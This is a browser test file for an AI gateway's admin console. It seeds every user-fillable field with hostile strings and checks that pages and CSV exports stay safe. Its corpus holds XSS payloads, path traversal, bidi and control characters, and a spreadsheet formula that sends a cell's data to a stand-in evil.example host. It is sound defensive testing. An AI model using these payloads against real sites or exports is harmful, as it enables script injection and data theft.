// Text that clients, vendors and colleagues have chosen to do harm, in every field of calls and objects that they can fill, on every page
// of the console: it is shown as text with its hidden marks, runs nowhere, leads nowhere, and asks nobody else for anything.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Browser } from "playwright-core";
import { type Json, type JsonObject, isObject } from "../../../src/core/json.ts";
import type { CallRecord } from "../../../src/core/record/record.ts";
import { LOCAL_ACTOR } from "../../../src/store/records.ts";
import { attemptOf, recordOf } from "../../contract/store/call-records.ts";
import { chromiumProgram, type ConsolePage, launch, openConsole } from "../../harness/console/chromium.ts";
import { crawl } from "../../harness/console/crawl.ts";
import { ACME, type ConsoleWorld, openConsoleWorld, pagesOf, SITE } from "../../harness/console/world.ts";

const program = chromiumProgram();

const CORPUS: Readonly<Record<string, string>> = {
  markup: `<img src=x onerror="window.harmed=1"><script>window.harmed=1</script><svg onload=window.harmed=1>`,
  quotes: `"'\`--></title></textarea></script>\${window.harmed=1}{{window.harmed=1}}`,
  direction: "\u202etxt.exe\u2066\u061c\u200b\u2028",
  controls: "a\u0000b\u0007c\u001b[31md\u007fe\rf\ufeff",
  half: "\ud800 and \udc00",
  formula: `=HYPERLINK("http://evil.example/?x="&A1,"open")`,
  address: "javascript:window.harmed=1//http://evil.example/a.png",
  path: "../../%2e%2e/?q=1&a[]=2#code=x",
  prototype: "__proto__",
  method: "constructor",
  words: `status:200 -model:"x" meta.a:b cost>1`,
  line: "x".repeat(20_000),
};
const LONGEST = "y".repeat(1_000_000);

/** What the gateway itself writes: its own words, ids and times. Nobody else can fill these. */
const OWN_WORDS = new Set([
  "traceId",
  "tenantId",
  "projectId",
  "otelTraceId",
  "trace",
  "operation",
  "code",
  "refused",
  "usageSource",
  "effect",
  "outcome",
  "bypass",
  "scope",
  "unit",
  "spanId",
  "callId",
  "fallbackOf",
]);

/** Every text becomes the hostile one, and so does every key of what callers fill with keys of their own. */
function spoiled(value: Json | undefined, hostile: string, name = ""): Json {
  if (value === undefined) return null;
  if (OWN_WORDS.has(name)) return value;
  if (typeof value === "string") return hostile;
  if (Array.isArray(value)) return value.map((one) => spoiled(one, hostile));
  if (!isObject(value)) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, one]) => [
      ["metadata", "dispositions"].includes(name) ? hostile : key,
      name === "dispositions" ? one! : spoiled(one, hostile, key),
    ]),
  );
}

function hostileCall(hostile: string, startedAtMs: number): CallRecord {
  const whole = recordOf({
    projectId: "site",
    startedAtMs,
    userId: "u",
    endUser: "e",
    clientRequestId: "r",
    status: 502,
    code: "upstream_error",
    errorDetail: "words",
    finishReasons: ["stop"],
    nativeFinishReasons: ["eos"],
    providerModel: "m",
    providerRequestId: "r",
    dispositions: { stop: "native" },
    messages: { count: 1, roles: { user: 1 }, blocks: ["text"], bodyCharacters: 10 },
    metadata: { team: "a" },
    warnings: ["w"],
    policies: [{ name: "p", effect: "failed", why: "because" }],
    attempts: [
      attemptOf({ status: 500, code: "upstream_error", nativeCode: "server_error" }),
      attemptOf({ provider: "other" }),
    ],
    tools: [
      {
        callId: "call_1",
        server: "s",
        tool: "t",
        round: 1,
        startMs: 1,
        totalMs: 2,
        code: null,
        isError: true,
        resultBytes: 1,
        spanId: null,
      },
    ],
  });
  return spoiled(whole as unknown as JsonObject, hostile) as unknown as CallRecord;
}

/** What a page must not have, whatever is shown; the text of fields that the reader fills does not count. */
const HARM = `(() => {
  const found = [];
  if (window.harmed !== undefined) found.push("a script of the text has run");
  for (const one of document.querySelectorAll("img, iframe, object, embed, script:not([src]), [onerror], [onload]")) found.push("element " + one.outerHTML.slice(0, 100));
  for (const one of document.querySelectorAll("a[href], form[action], [src]")) {
    const url = new URL(one.href ?? one.action ?? one.src, location.href);
    if (url.origin !== location.origin && url.protocol !== "data:") found.push("leads to " + url.href.slice(0, 100));
  }
  const hidden = /[^\\P{Cc}\\t\\n]|[\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}]/u;
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT | NodeFilter.SHOW_ELEMENT);
  for (let node = walker.currentNode; node !== null; node = walker.nextNode()) {
    const own = node.nodeType === Node.TEXT_NODE ? [node.data] : ["title", "aria-label", "alt"].map((name) => node.getAttribute(name) ?? "");
    for (const text of own) if (!["TEXTAREA", "OPTION"].includes(node.parentElement?.tagName) && hidden.test(text)) found.push("hidden marks in " + (node.parentElement?.outerHTML ?? text).slice(0, 200));
  }
  const width = document.documentElement.clientWidth;
  if (document.documentElement.scrollWidth > width) {
    const widest = [...document.body.querySelectorAll("*")].filter((one) => one.getBoundingClientRect().right > width && one.closest(".table-box") === null).at(-1);
    found.push("wider than the window by " + (document.documentElement.scrollWidth - width) + ", because of " + widest?.outerHTML.slice(0, 200));
  }
  return found;
})()`;

describe.skipIf(program === null)("hostile text in the console", () => {
  let world: ConsoleWorld;
  let browser: Browser;
  let hostile: readonly CallRecord[];
  beforeAll(async () => {
    const texts = Object.values(CORPUS);
    world = await openConsoleWorld({
      toolServers: {
        list: () =>
          Promise.resolve(
            texts.map((text) => ({
              name: text,
              title: text,
              description: text,
              inputSchema: { type: "object", title: text },
            })),
          ),
        call: () => Promise.reject(new Error(texts.join("\n"))),
        test: () => Promise.reject(new Error(texts.join("\n"))),
        onListChanged: () => () => {},
        configured: () => {},
        close: () => Promise.resolve(),
      },
    });
    hostile = [
      ...texts.map((text, at) => hostileCall(text, Date.now() - 60_000 + at)),
      {
        ...hostileCall("plain", Date.now() - 1000),
        errorDetail: LONGEST,
        metadata: { long: LONGEST.slice(0, 100_000) },
      },
    ];
    await world.calls.ingest(hostile.map((record) => ({ record, settled: true })));
    await world.store.change(LOCAL_ACTOR, async (writer) => {
      for (const [at, whole] of texts.entries()) {
        const id = `hostile-${at}`;
        // the store refuses U+0000 in what it keeps of objects
        const text = whole.replaceAll("\0", "\u0001");
        await writer.createUser({ id, tenantId: "acme", name: text, email: text });
        await writer.putMembership({ userId: id, tenantId: "acme", projectId: "site", role: "viewer" });
        await writer.createTenant({ id, name: text });
        await writer.createProject({ id: `project-${at}`, tenantId: "acme", name: text });
        await writer.createResource({
          kind: "policy",
          ...SITE,
          name: id,
          document: { rule: JSON.stringify(text), message: text },
        });
        await writer.createResource({
          kind: "price",
          ...SITE,
          name: id,
          document: { model: text, prompt: "1" },
        });
      }
    });
    await world.source.reload();
    browser = await launch(program!);
  });
  afterAll(async () => {
    await browser?.close();
    await world?.close();
  });

  const check = async ({ page }: ConsolePage, path: string): Promise<readonly string[]> =>
    (await page.evaluate<string[]>(HARM)).map((one) => `${path}: ${one}`);

  test.each([1280, 320])("[d14.1] does no harm on any page, in a window of %d pixels", async (width) => {
    const made = await openConsole(browser, world.url, {
      userAgent: `Mozilla/5.0 ${CORPUS["markup"]}`,
      viewport: { width, height: 900 },
    });
    await made.open("/");
    await made.signIn(world.tokens.get("default.owner")!);
    const found: string[] = [];
    const calls = hostile.map(({ traceId }) => `/acme/site/calls/${traceId}`);
    const visited = await crawl(made, {
      starts: [
        ...[SITE, ACME].flatMap((place) => pagesOf(world, place).map(([, path]) => path)),
        ...calls,
        ...hostile.slice(0, 3).map(({ traceId }) => `/acme/site/calls?open=${traceId}`),
        "/acme/-/usage?by=end_user,model",
        "/acme/-/usage?by=model",
        "/acme/-/usage?by=constructor&range=constructor",
        "/acme/site/calls?range=constructor&q=constructor:x",
        ...Object.values(CORPUS).map(
          (text) => `/acme/site/calls?q=${encodeURIComponent(text.slice(0, 1000).replaceAll(/[\ud800-\udfff]/g, ""))}`,
        ),
        `/acme/site/${encodeURIComponent(CORPUS["markup"]!)}`,
        `/${encodeURIComponent(CORPUS["markup"]!)}/-/calls`,
      ],
      visit: async (path) => void found.push(...(await check(made, path))),
    });
    console.log(`${width} pixels: ${visited.length} pages`);
    await made.page.keyboard.press("Control+k");
    await made.page.locator(".palette input").fill("go to");
    found.push(...(await check(made, "search")));
    await made.page.keyboard.press("Escape");
    await made.page.locator(".scope-button").click();
    await made.page.locator(".menu a").first().waitFor();
    found.push(...(await check(made, "the menu of tenants and projects")));
    expect([...new Set(found)]).toEqual([]);
    expect(made.faults).toEqual([]);
    await made.close();
  });

  test("in exports no cell is a formula to a spreadsheet", async () => {
    for (const path of ["usage?group_by=end_user,model&format=csv", "logs?format=csv"]) {
      const { status, text } = await world.send("acme.admin", "GET", `/api/v1/admin/tenants/acme/${path}`);
      expect(status).toBe(200);
      expect(text).toContain("'=HYPERLINK");
      const cells = text.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
      expect(cells.filter((cell) => /^"?\s*[=+@\t\r]|^"?\s*-[^\d]/.test(cell))).toEqual([]);
    }
  });
});
